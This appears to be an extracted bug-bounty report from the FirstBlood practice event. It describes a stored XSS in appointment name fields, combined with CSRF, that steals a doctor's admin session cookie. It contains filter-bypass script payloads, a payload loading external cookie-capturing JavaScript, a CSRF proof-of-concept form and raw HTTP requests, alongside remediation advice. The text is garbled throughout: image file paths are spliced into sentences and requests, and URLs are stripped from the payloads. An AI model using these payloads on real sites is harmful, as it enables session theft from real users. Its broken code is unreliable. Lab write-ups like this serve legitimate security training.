FirstBlood-#282Stored XSS + stealing cookies through XSS hunter

On 2021-05-15, vigilante reported:


It is possible to use stored XSS along with a CSRF vulnerability to obtain admin's cookie.


The "first name" and "last name" appointment fields are both vulnerable to XSS when creating a new appointment. When the appointment is viewed in the doctor panel via a direct url, our payload will call an externally hosted javascript that will capture cookies from First Blood. We can use a CSRF vulnerability and trick user to navigate directly to that vulnerable appointment.

The page located at suffers from a Cross-site Scripting (XSS) vulnerability. XSS is avulnerability which occurs when user input is unsafely incorporated into the HTML markup inside of a webpage. Because the payload wasn't properly escaped, we injected malicious JavaScript that, once evaluated, can be used to hijack authenticated sessions .

This vulnerability was first tested by using following payloads and seeing an alert box before using XSS hunter: fname="><scr<script>ipt>aALERTlert(1)</scr</script>ipt>&lname="><scr<script>ipt>aALERTlert(2)</scr</script>ipt>

Steps to Reproduce:

  1. Book a new appointment and use our payload as "first name" or "last name", both fields are vulnerable. Payload:

fname="><scr<script>ipt src=></scr</script>ipt>&lname="><scr<script>ipt src=></scr</script>ipt>

  1. Click in the doctor's panel on our new appointment,we'll see there's a GET request performed in the background.

  1. Take this get request and convert it to a CSRF vulnerability. Note: You'll need to edit the value of our appointment "aptid". Save this file as firstblood_csrf_poc.html
    <!-- CSRF PoC - generated by Burp Suite Professional -->
    <script>history.pushState('', '', '/')</script>
    <form action="">
      <input type="hidden" name="aptid" value="56911904" />
      <input type="submit" value="Submit request" />
  2. Send this link to a malicious user, once it's been open we'll see a new "XSS Payload Fire" in XSS hunter.

Appointment creation:

POST /api/ba.php HTTP/1.1
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:88.0) Gecko/20100101 Firefox/88.0
Accept: */*
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Content-Type: application/x-www-form-urlencodedcsrf: 99215d4e-0ff3-4275
Content-Length: 259
Connection: close
Cookie: drps=23052207edd714a0a4b6297ec

fname="><scr<script>ipt src=></scr</script>ipt>&lname="><scr<script>ipt src=></scr</script>ipt>&address=address&city=city&phonenumber=phone&email=email&dob=dob&a1=allergy1&a2=allergy2&a3=allergy3&message=message

Request that executes our payload:

GET /drpanel/drapi/query.php?aptid=56911904 HTTP/1.1
User-Agent: Mozilla/5.0 (Macintosh; Intel Mac OS X10.15; rv:88.0) Gecko/20100101 Firefox/88.0
Accept: */*
Accept-Language: en-US,en;q=0.5
Accept-Encoding: gzip, deflate
Connection: close
Cookie: drps=23052207edd714a0a4b6297ec

Supporting Material:

XSS hunter:


An attacker can trick a First Blood doctor to visit a malicious website hosting the CSRF POC code. This will send us doctor's admin cookie if the doctor was logged in at that time.


There are number of things that need to be fixed.

  1. Prevent the Stored XSS through better input filtering.
  2. Use CSRF tokens.
  3. Set HttpOnly flag for the "drps" cookie to prevent this cookie to be accessed by javascript.For more information about Cross-site Scripting and remediation of the issue, see the following resources:

P2 HighEndpoint: /drpanel/drapi/query.php?aptid=56911904

Parameter: fname, lname

Payload: "><scr<script>ipt src=></scr</script>ipt>

FirstBlood ID: 10
Vulnerability Type: Stored XSS

When creating an appointment, it is possible to get stored XSS /drapi/query.php via thepatients name

Respect Earnt: 1500000
RESPECT ($RSP) is an experimental cryptocurrency based on the Ethereumblockchain with the mission to show respect tothose who deserve it. We are testing it out on ourFirstBlood hackevent.